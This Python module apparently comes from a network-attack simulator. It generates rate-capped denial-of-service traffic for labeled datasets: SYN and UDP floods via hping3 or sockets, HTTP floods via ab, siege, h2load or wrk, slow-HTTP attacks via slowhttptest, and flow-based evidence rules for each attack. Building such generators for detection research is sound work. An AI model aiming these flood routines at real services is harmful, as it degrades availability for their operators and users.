# SPDX-License-Identifier: GPL-3.0-or-later
"""Denial of service, bounded: bursts of at most 150 packets a second and 10 s, from the attacker's own address.

Varied per session: the tool, the rate of each burst, sizes, ports, connections at once, pauses between bursts; for slow HTTP
which part is slow (the head, the body, reading the answer) and how slow."""
import contextlib

from .. import clients
from ..behaviour import Over, installed, threat
from . import words


def _one_of(me, *kinds):
    """A service of one of these kinds, of those that the host reaches."""
    found = [kind for kind in kinds if me.services(kind)]
    if not found:
        raise Over
    return me.choose(me.rng.choice(found))


# --- packets ------------------------------------------------------------------------------------------------------------

@threat("flood_syn", family="flood", tools=("hping3",), seconds=(60, 120), origin="either")
def flood_syn(me):
    rng = me.rng
    service = _one_of(me, "web", "webplain", "ssh", "smtp", "mysql", "ftp", "smb")
    flags = rng.choice((["-S"], ["-S"], ["-S"],
                        ["-S", "-w", rng.choice((64, 512, 1024, 29200))],
                        ["-S", "-d", rng.randrange(20, 200)]))
    left = rng.randrange(200, 800)
    for _ in words.rounds(me, 4, 15):
        if left <= 0:
            return
        rate = rng.randrange(20, 150)
        count = min(left, int(rate * rng.uniform(1.5, 10)))
        left -= count
        with me.talk(service):
            me.run(["hping3", "-n", "-q", *flags, "-p", service.port, "-i", f"u{1_000_000 // rate}", "-c", count,
                    *rng.choice(([], ["-s", rng.randrange(1024, 60000)])), me.address(service, False)], timeout=11)


@threat("flood_udp", family="flood", tools=("hping3",), seconds=(60, 120), origin="either")
def flood_udp(me):
    """Some floods keep one socket, some take a new port per packet; to a service's port or to any."""
    rng = me.rng
    seen = me.hosts("inside")
    hosts = [service.host for service in me.site.services if service.host in seen] or me.hosts()
    if not hosts:
        raise Over
    host = rng.choice(hosts)
    resolver = any(service.kind == "dns" and service.host is host for service in me.site.services)
    own, size = rng.random() < 0.5, rng.choice((8, 64, 512, 1000, 1400))
    ports = [rng.choice((19, 80, 123, 161, 389, 443, 1900, 3478, 11211)) if resolver or rng.random() < 0.7
             else rng.randrange(1024, 60000) for _ in range(rng.choice((1, 1, 3, 10)))]
    left = rng.randrange(300, 1500)  # packets
    for _ in words.rounds(me, 4, 14):
        if left <= 0:
            return
        port, rate = rng.choice(ports), rng.randrange(20, 150)
        count = min(left, int(rate * rng.uniform(1.5, 10)))
        left -= count
        with me.talk(host, protocol="icmp", ports=None):  # closed ports answer with it
            if own:
                _datagrams(me, host, port, size, rate, count)
                continue
            with me.talk(host, protocol="udp", ports=port):
                me.run(["hping3", "-2", "-n", "-q", "-d", size, "-p", port, "-i", f"u{1_000_000 // rate}", "-c", count,
                        *rng.choice(([], ["-k"])), me.address(host, False)], timeout=11)


def _datagrams(me, host, port, size, rate, count):
    per_socket = me.rng.choice((2, 5, 20, 100, count))
    while count > 0 and not me.over():
        with contextlib.suppress(OSError), me.datagrams(host, port) as socket:
            for _ in range(min(count, per_socket)):
                with contextlib.suppress(ConnectionRefusedError):  # what an unreachable port reports to the next send
                    socket.send(me.rng.randbytes(max(1, int(size * me.rng.uniform(0.8, 1)))))
                me.sleep(1 / rate)
        count -= per_socket


# --- requests -----------------------------------------------------------------------------------------------------------

def _ab(me, service, path, requests, together):
    return ["ab", "-q", "-s", "8", "-n", requests, "-c", together, *me.rng.choice(([], [], ["-k"])),
            "-H", f"User-Agent: {clients.agent(me.rng)}", clients.url(me, service, path, named=False)]


def _siege(me, service, path, requests, together):
    connection = me.rng.choice(("close", "close", "keep-alive"))
    settings = words.write(me, "siegerc", ["verbose = false", "logging = false", "show-logfile = false", "timeout = 8",
                                           f"connection = {connection}"])
    return ["siege", "-R", settings, "-q", "-c", together, "-r", max(1, requests // together),
            *me.rng.choice((["-b"], ["-d", "0.5"])), "-A", clients.agent(me.rng),
            clients.url(me, service, path, named=False)]


def _h2load(me, service, path, requests, together):
    return ["h2load", "-n", requests, "-c", together, "-m", me.rng.choice((1, 4, 10)), "-T", "8",
            *me.rng.choice(([], ["--h1"])), clients.url(me, service, path, named=False)]


def _wrk(me, service, path, requests, together):
    """wrk knows no number of requests; its threads are made to pause between theirs."""
    pause = me.rng.randrange(200, 900)
    script = words.write(me, "pause.lua", [f"function delay() return math.random({pause // 2}, {pause * 3 // 2}) end"])
    return ["wrk", "-t", "1", "-c", together, "-d", f"{me.rng.randrange(2, 6)}s", "-s", script,
            "-H", me.rng.choice(("Connection: close", "Connection: close", "Connection: keep-alive")),
            clients.url(me, service, path, named=False)]


@threat("flood_http", family="flood", needs=("web",), tools=("ab|siege|h2load|wrk",), seconds=(60, 120), origin="either")
def flood_http(me):
    rng = me.rng
    service = _one_of(me, "web", "webplain")
    make = rng.choice([maker for name, maker in (("ab", _ab), ("siege", _siege), ("h2load", _h2load), ("wrk", _wrk))
                       if installed(name)])
    paths = rng.sample(("/", "/o/0", "/o/1", "/o/3", "/search?id=1", "/login", "/api", "/comments", "/echo?n=2000"),
                       rng.randint(1, 3))
    left = rng.randrange(150, 400)
    for _ in words.rounds(me, 3, 9):
        if left <= 0:
            return
        requests = min(left, rng.randrange(20, 90))
        left -= requests
        together = min(requests, rng.choice((2, 5, 10, 20, 30)))
        with me.talk(service):
            me.run(make(me, service, rng.choice(paths), requests, together), timeout=10)


@threat("flood_slow_http", family="flood", needs=("web",), tools=("slowhttptest",), seconds=(70, 150), origin="either")
def flood_slow_http(me):
    rng = me.rng
    service = _one_of(me, "web", "webplain")
    for _ in words.rounds(me, 3, 8):
        slow = rng.choice((["-H"], ["-H"],
                           ["-B", "-s", rng.randrange(500, 9000)],
                           ["-X", "-w", rng.randrange(8, 64), "-y", rng.randrange(65, 512), "-n", "3",
                            "-z", rng.randrange(8, 64), "-k", rng.choice("123")]))
        path = rng.choice(("/login", "/submit", "/echo") if "-B" in slow
                          else ("/", "/o/1", "/o/5", service.facts.get("large") or "/"))
        with me.talk(service):
            me.run(["slowhttptest", *slow, "-c", rng.randrange(12, 60), "-r", rng.randrange(4, 40),
                    "-i", rng.randrange(2, 9), "-x", rng.randrange(6, 48), "-l", rng.randrange(10, 24),
                    "-p", rng.choice("235"), "-u", clients.url(me, service, path, named=False)], timeout=26)


EVIDENCE = {
    "flood_syn": ("SYNs that nobody follows up", lambda flow: flow.protocol == 6 and flow.packets[0] <= 4, 100),
    "flood_udp": ("datagrams", lambda flow: flow.protocol == 17, 1),
    "flood_http": ("with an answered request", lambda flow: flow.protocol == 6 and flow.bytes[1] > 300, 20),
    "flood_slow_http": ("open for long, or slowly fed", lambda flow: flow.protocol == 6 and flow.last - flow.start > 3, 15),
}
